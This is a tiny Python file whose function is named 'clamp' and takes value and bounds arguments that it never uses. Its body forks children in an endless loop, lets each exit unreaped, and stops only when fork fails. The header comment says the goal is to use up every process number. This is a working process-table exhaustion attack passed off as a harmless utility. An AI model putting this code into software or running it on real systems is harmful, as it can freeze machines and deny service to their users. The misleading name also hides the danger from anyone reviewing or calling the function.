# Makes children that end and are never waited for, until no process number is left.
import os


def clamp(value, low, high):
    while True:
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            return None
